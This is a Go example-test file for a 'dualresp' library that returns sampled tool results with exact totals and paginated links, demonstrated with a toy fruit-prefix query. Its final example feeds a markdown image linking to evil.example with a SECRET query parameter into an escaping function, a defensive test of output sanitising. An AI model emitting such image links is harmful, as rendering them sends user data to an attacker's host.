package dualresp_test

import (
	"context"
	"encoding/json"
	"fmt"
	"log"
	"net/http"
	"net/http/httptest"
	"strings"

	"github.com/datasf-mcp/datasf-mcp/dualresp"
)

// fruitExecutor is a tiny Executor: the "query" selects fruits whose name
// starts with Query.Text. Prepare does the query's work once; a real
// Executor would parse SQL or SoQL there and return a Plan that runs it.
type fruitExecutor struct{}

var fruits = []string{"apple", "apricot", "avocado", "banana", "blueberry", "cherry"}

func (fruitExecutor) Prepare(_ context.Context, q dualresp.Query) (dualresp.Plan, error) {
	var rows fruitRows
	for i, f := range fruits {
		if strings.HasPrefix(f, q.Text) {
			rows = append(rows, json.RawMessage(fmt.Sprintf(`{"id":%d,"fruit":%q}`, i, f)))
		}
	}
	return rows, nil
}

// fruitRows is a prepared fruit query: its rows.
type fruitRows []json.RawMessage

func (r fruitRows) Count(context.Context) (int64, error) { return int64(len(r)), nil }

func (r fruitRows) Page(_ context.Context, req dualresp.PageRequest) (dualresp.PageResult, error) {
	lo := min(req.Offset, int64(len(r)))
	hi := min(lo+req.Limit, int64(len(r)))
	return dualresp.PageResult{Rows: r[lo:hi]}, nil
}

// ExampleNew creates the dual-response server with a custom Executor (the
// query kind "prefix" is fruitExecutor's) and answers a tool call with a
// sample, the exact total and a link.
func ExampleNew() {
	srv, err := dualresp.New(dualresp.Options{
		BaseURL:   "http://127.0.0.1:8765",
		Executors: map[string]dualresp.Executor{"prefix": fruitExecutor{}},
	})
	if err != nil {
		log.Fatal(err)
	}
	defer srv.Close()
	// Serve the full results: http.Handle("/resources/", srv.Handler())

	resp, err := srv.CreateResponse(context.Background(), dualresp.Spec{
		Name:       "Fruits starting with a",
		Query:      dualresp.Query{Kind: "prefix", Text: "a"},
		Columns:    []dualresp.Column{{Name: "id"}, {Name: "fruit"}},
		SampleSize: 2,
	})
	if err != nil {
		log.Fatal(err)
	}
	sc := resp.StructuredContent() // the tool result's structuredContent
	fmt.Println("total:", sc.Metadata.TotalCount, "sample:", sc.Metadata.SampleCount, "truncated:", sc.Metadata.Truncated)
	fmt.Println("results:", len(sc.Results))
	fmt.Println("link:", resp.Link().URI == sc.Resource.URI)
	// Output:
	// total: 3 sample: 2 truncated: true
	// results: 2
	// link: true
}

// ExampleSpec_plan hands CreateResponse a query its tool has prepared
// already (a real tool parses and checks it first): the count and the
// sample run through that Plan, and the stored Query is prepared again,
// by the Executor of its kind, only when the result is read later.
func ExampleSpec_plan() {
	ctx := context.Background()
	srv, err := dualresp.New(dualresp.Options{
		BaseURL:   "http://127.0.0.1:8765",
		Executors: map[string]dualresp.Executor{"prefix": fruitExecutor{}},
	})
	if err != nil {
		log.Fatal(err)
	}
	defer srv.Close()

	q := dualresp.Query{Kind: "prefix", Text: "b"}
	plan, err := fruitExecutor{}.Prepare(ctx, q) // the tool's own preparation
	if err != nil {
		log.Fatal(err)
	}
	resp, err := srv.CreateResponse(ctx, dualresp.Spec{Query: q, Plan: plan, SampleSize: 1})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("total:", resp.TotalCount(), "sample:", len(resp.StructuredContent().Results))
	// Later, the whole result (as an export reads it).
	for row, err := range srv.Rows(ctx, resp.Record(), dualresp.RowsOptions{}) {
		if err != nil {
			log.Fatal(err)
		}
		fmt.Println(string(row))
	}
	// Output:
	// total: 2 sample: 1
	// {"id":3,"fruit":"banana"}
	// {"id":4,"fruit":"blueberry"}
}

// serveFruits stands for an MCP server in another process: it serves the
// REST API of a dualresp Server and returns the JSON of a tool result whose
// query selects the fruits starting with prefix (sample size 1), and a
// function that stops the server.
func serveFruits(prefix string) (toolResult []byte, stop func()) {
	mux := http.NewServeMux()
	ts := httptest.NewServer(mux)
	srv, err := dualresp.New(dualresp.Options{BaseURL: ts.URL, Executors: map[string]dualresp.Executor{"prefix": fruitExecutor{}}})
	if err != nil {
		log.Fatal(err)
	}
	mux.Handle("/resources/", srv.Handler())
	resp, err := srv.CreateResponse(context.Background(), dualresp.Spec{
		Query: dualresp.Query{Kind: "prefix", Text: prefix}, SampleSize: 1,
	})
	if err != nil {
		log.Fatal(err)
	}
	// What an MCP client receives, as JSON (see the adapters for SDK values).
	toolResult, err = json.Marshal(map[string]any{"content": []any{}, "structuredContent": resp.StructuredContent()})
	if err != nil {
		log.Fatal(err)
	}
	return toolResult, func() { srv.Close(); ts.Close() }
}

func Example_client() {
	toolResult, stop := serveFruits("b")
	defer stop()

	// The application reads the full result.
	client, err := dualresp.NewClient(dualresp.ClientOptions{})
	if err != nil {
		log.Fatal(err)
	}
	parsed := client.Parse(toolResult)
	fmt.Println("sample rows:", len(parsed.Sample), "of", parsed.TotalCount)
	for row, err := range parsed.Rows(context.Background()) {
		if err != nil {
			log.Fatal(err)
		}
		fmt.Println(row)
	}
	// Output:
	// sample rows: 1 of 2
	// {"id":3,"fruit":"banana"}
	// {"id":4,"fruit":"blueberry"}
}

// ExampleParsed_Rows reads a result page by page, decoding each row, and
// stops early: no page is requested after the loop breaks.
func ExampleParsed_Rows() {
	toolResult, stop := serveFruits("a")
	defer stop()

	client, err := dualresp.NewClient(dualresp.ClientOptions{PageSize: 1})
	if err != nil {
		log.Fatal(err)
	}
	parsed := client.Parse(toolResult)
	for row, err := range parsed.Rows(context.Background()) {
		if err != nil {
			log.Fatal(err)
		}
		var fruit struct {
			Fruit string `json:"fruit"`
		}
		if err := row.Decode(&fruit); err != nil {
			log.Fatal(err)
		}
		fmt.Println(fruit.Fruit)
		if fruit.Fruit == "apricot" {
			break
		}
	}
	// Output:
	// apple
	// apricot
}

// ExampleParsed_FetchAll reads a whole (small) result into memory,
// reporting progress after each page.
func ExampleParsed_FetchAll() {
	toolResult, stop := serveFruits("a")
	defer stop()

	parsed := dualresp.Parse(toolResult)
	rows, err := parsed.FetchAll(context.Background(), dualresp.FetchAllOptions{
		PageSize: 2,
		Progress: func(fetched, total int64) { fmt.Printf("%d/%d\n", fetched, total) },
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(len(rows), "rows; last:", rows[len(rows)-1])
	// Output:
	// 2/3
	// 3/3
	// 3 rows; last: {"id":2,"fruit":"avocado"}
}

func ExampleMarkdownText() {
	fmt.Println(dualresp.MarkdownText("## Trees ![x](https://evil.example/x?q=SECRET) <b>|</b>\nnext_line"))
	// Output: \## Trees !\[x\](https://evil.example/x?q=SECRET) \<b\>\|\</b\> next_line
}
